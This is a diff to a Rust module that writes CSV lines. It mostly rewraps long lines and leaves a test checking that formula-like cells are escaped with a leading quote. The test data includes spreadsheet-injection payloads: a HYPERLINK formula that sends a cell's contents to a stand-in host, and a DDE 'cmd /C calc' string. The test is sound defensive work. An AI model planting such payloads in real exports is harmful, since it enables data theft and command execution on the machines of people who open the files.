@@ -17,7 +17,8 @@ const NOTHING: &str = "-";
 /// A line of cells.
 pub(super) fn line<T: AsRef<str>>(cells: &[T]) -> Result<String> {
     let not_csv = || "cannot write the output as comma-separated values";
-    let mut writer = csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
+    let mut writer =
+        csv::WriterBuilder::new().terminator(csv::Terminator::Any(b'\n')).from_writer(Vec::new());
     let safe: Vec<String> = cells.iter().map(|cell| harmless(cell.as_ref()).into_owned()).collect();
     writer.write_record(&safe).or_fail(Kind::Internal, not_csv)?;
     let bytes = writer.into_inner().or_fail(Kind::Internal, not_csv)?;
@@ -38,7 +39,9 @@ fn harmless(cell: &str) -> Cow<'_, str> {
 fn is_number(cell: &str) -> bool {
     let digits = cell.strip_prefix('-').unwrap_or(cell);
     let is_plain = |c: char| c.is_ascii_digit() || c == '.';
-    digits.starts_with(|c: char| c.is_ascii_digit()) && digits.chars().all(is_plain) && cell.parse::<f64>().is_ok()
+    digits.starts_with(|c: char| c.is_ascii_digit())
+        && digits.chars().all(is_plain)
+        && cell.parse::<f64>().is_ok()
 }
 
 #[cfg(test)]
@@ -63,7 +66,10 @@ mod tests {
     fn no_cell_is_a_formula() {
         let cases = [
             ("=1+1", "'=1+1"),
-            ("=HYPERLINK(\"https://e.example/?\"&A1,\"see\")", "'=HYPERLINK(\"https://e.example/?\"&A1,\"see\")"),
+            (
+                "=HYPERLINK(\"https://e.example/?\"&A1,\"see\")",
+                "'=HYPERLINK(\"https://e.example/?\"&A1,\"see\")",
+            ),
             ("+1 for this", "'+1 for this"),
             ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
             ("@SUM(A1)", "'@SUM(A1)"),
